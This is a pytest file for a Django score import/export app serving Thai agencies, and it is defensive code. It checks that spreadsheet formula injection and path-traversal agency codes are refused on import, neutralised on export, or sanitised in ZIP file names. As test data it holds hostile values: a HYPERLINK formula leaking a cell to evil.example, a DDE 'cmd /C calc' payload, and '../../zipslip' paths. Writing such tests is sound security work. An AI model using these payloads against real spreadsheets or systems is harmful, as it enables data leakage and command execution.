"""Issue 11 item 3: text that a spreadsheet runs as a formula, and agency codes that are paths.

An import refuses an agency name (province, district) starting a formula and an agency code
other than letters, digits and "-"; every export neutralises such a cell that is already in
the database; the compare pages and the bulk ZIP stay safe with a bad code in the database."""

import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from assessments.models import Agency, Membership
from assessments.resources import import_scores, score_import_plan
from plans import bulk
from tests.conftest import make_assessment

HEADER = "agency_code,agency_name,agency_type,province,district,fiscal_year,item,score\n"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")'
KORAT = "นครราชสีมา"


def plan_errors(content):
    return score_import_plan(content.encode()).errors


@pytest.mark.parametrize("name", [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"])
def test_it_refuses_a_new_agency_whose_name_starts_a_formula(db, name):
    quoted = '"' + name.replace('"', '""') + '"'
    errors = plan_errors(HEADER + f"N001,{quoted},อบต.,พังงา,เมือง,2568,overall,90.00\n")
    assert errors == [
        "แถวที่ 2 คอลัมน์ agency_name: ชื่อหน่วยงานต้องไม่ขึ้นต้นด้วยเครื่องหมาย = + - @ หรือแท็บ"
        " เพราะโปรแกรมตารางคำนวณจะอ่านเป็นสูตร"
    ]
    assert not Agency.objects.filter(code="N001").exists()


def test_it_refuses_a_formula_in_the_province_and_district_columns(db):
    errors = plan_errors(HEADER + "N001,อบต.ทดสอบ,อบต.,=1+1,@x,2568,overall,90.00\n")
    assert [e.split(":")[0] for e in errors] == ["แถวที่ 2 คอลัมน์ province", "แถวที่ 2 คอลัมน์ district"]


def test_it_refuses_the_whole_file_with_a_formula_name_and_writes_nothing(seed_assessment, tmp_path):
    path = tmp_path / "scores.csv"
    path.write_text(HEADER + "A001,,,,,2568,i1,50.00\nN001,=cmd|' /C calc'!A0,อบต.,พังงา,เมือง,2568,overall,90.00\n")
    with pytest.raises(Exception) as refused:
        import_scores(path)
    assert "แถวที่ 3 คอลัมน์ agency_name: ชื่อหน่วยงานต้องไม่ขึ้นต้นด้วย" in str(refused.value)
    assert str(seed_assessment.scores.get(item__code="i1").value) == "98.06"


@pytest.mark.parametrize("code", ["NK/001", "../../zipslip", "A 001", "A001;", "ก001", "=1+1"])
def test_it_refuses_an_agency_code_other_than_letters_digits_and_dash(db, code):
    errors = plan_errors(HEADER + f"{code},อบต.ทดสอบ,อบต.,พังงา,เมือง,2568,overall,90.00\n")
    assert errors == [
        f"แถวที่ 2 คอลัมน์ agency_code: รหัสหน่วยงานใช้ได้เฉพาะตัวอักษรภาษาอังกฤษ ตัวเลข และเครื่องหมาย - เท่านั้น"
        f" (ได้ {code})"
    ]


def test_it_accepts_letters_digits_and_dash_in_a_new_code(db):
    assert plan_errors(HEADER + "Nk-0012,อบต.ทดสอบ,อบต.,พังงา,เมือง,2568,overall,90.00\n") == []


def agency_form(code, name="อบต.ทดสอบ"):
    return {"code": code, "name": name, "agency_type": "sao", "district": "", "province": "",
            "table_digits": "thai", "signing_pkcs12_password": ""}


@pytest.mark.parametrize(
    ("code", "name", "message"),
    [
        ("NK/001", "อบต.ทดสอบ", "รหัสหน่วยงานใช้ได้เฉพาะตัวอักษรภาษาอังกฤษ ตัวเลข และเครื่องหมาย - เท่านั้น"),
        ("../../zipslip", "อบต.ทดสอบ", "รหัสหน่วยงานใช้ได้เฉพาะตัวอักษรภาษาอังกฤษ ตัวเลข และเครื่องหมาย - เท่านั้น"),
        ("N002", HYPERLINK, "ต้องไม่ขึ้นต้นด้วยเครื่องหมาย = + - @ หรือแท็บ"),
    ],
)
def test_it_refuses_a_bad_code_or_formula_name_in_the_agency_admin(client, admin_user, code, name, message):
    # Agencies are reference data: only a superuser adds them.
    client.force_login(admin_user)
    response = client.post(reverse("admin:assessments_agency_add"), agency_form(code, name))
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not Agency.objects.filter(code=code).exists()


@pytest.fixture
def hostile_agency(owner, agency_a):
    """An agency stored before the rules (straight into the database): a formula for a name."""
    agency_a.name = HYPERLINK
    agency_a.district = "@SUM(1+1)"
    agency_a.save()
    make_assessment(agency_a, 2568, {("overall", ""): "92.27"})
    return agency_a


def export(client, file_format):
    url = reverse("admin:assessments_score_export")
    return client.post(url, {"format": {"csv": "0", "xlsx": "1"}[file_format], "resource": "0"})


def test_it_neutralises_a_formula_name_in_the_csv_export(client, owner, hostile_agency):
    client.force_login(owner)
    content = export(client, "csv").content
    expected = (
        "A001,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"คลิก\"\")\",อบต.,นครราชสีมา,'@SUM(1+1),2568,overall,92.27"
    )
    assert content.decode("utf-8-sig").splitlines()[1] == expected


def test_it_neutralises_a_formula_name_in_the_xlsx_export(client, owner, hostile_agency):
    client.force_login(owner)
    workbook = openpyxl.load_workbook(io.BytesIO(export(client, "xlsx").content))
    sheet = workbook.active
    name, district = sheet.cell(row=2, column=2), sheet.cell(row=2, column=5)
    assert (name.value, name.data_type) == ("'" + HYPERLINK, "s")
    assert (district.value, district.data_type) == ("'@SUM(1+1)", "s")
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


@pytest.fixture
def provincial(db, django_user_model):
    user = django_user_model.objects.create_user("korat", password="pw")
    Membership.objects.create(user=user, role=Membership.Role.PROVINCIAL, province=KORAT)
    return user


@pytest.fixture
def bad_codes(agency_a):
    """Agencies whose codes were stored before the rule (straight into the database)."""
    figures = {(str(n), ""): "90.00" for n in range(1, 11)}
    make_assessment(agency_a, 2568, figures)
    agencies = []
    for code in ("NK/001", "../../zipslip"):
        agency = Agency.objects.create(code=code, name=f"อบต.รหัส {code}", province=KORAT)
        make_assessment(agency, 2568, figures)
        agencies.append(agency)
    return agencies


def test_it_shows_the_compare_pages_of_an_agency_with_a_slash_in_its_code(client, provincial, bad_codes):
    client.force_login(provincial)
    table = client.get(reverse("assessments:compare"), {"province": KORAT, "year": 2568})
    assert table.status_code == 200
    for agency in bad_codes:
        url = reverse("assessments:compare_agency", args=[agency.code, 2568])
        assert url.count("/") == 5  # /compare/agency/<one segment>/2568/
        assert url in table.content.decode()
        page = client.get(url)
        assert page.status_code == 200
        assert page.context["agency"] == agency
        trend = client.get(reverse("assessments:compare_trend", args=[agency.code]))
        assert (trend.status_code, trend.context["agency"]) == (200, agency)


def test_it_keeps_every_zip_member_a_plain_file_name(bad_codes, provincial, settings):
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
    settings.BULK_RENDER_PROCESSES = 0
    job = bulk.bulk_job_start(user=provincial, kind="analysis", fiscal_year=2568, province=KORAT)
    job.refresh_from_db()
    with job.archive.open("rb") as f:
        names = zipfile.ZipFile(io.BytesIO(f.read())).namelist()
    assert sorted(names) == ["A001-analysis-2568.pdf", "NK_001-analysis-2568.pdf", "______zipslip-analysis-2568.pdf"]


def test_it_numbers_two_codes_that_sanitise_to_the_same_name():
    used = set()
    names = [bulk.unique_name(bulk.bulk_file_name(code, "analysis", 2568), used) for code in ("NK/001", "NK_001")]
    assert names == ["NK_001-analysis-2568.pdf", "NK_001-analysis-2568-2.pdf"]


def test_it_imports_back_an_export_with_a_neutralised_name_without_changes(client, owner, hostile_agency):
    client.force_login(owner)
    content = export(client, "csv").content
    report = import_scores(content)
    assert (report.new, report.updated, report.unchanged, report.agencies_created) == (0, 0, 1, 0)
    hostile_agency.refresh_from_db()
    assert hostile_agency.name == HYPERLINK
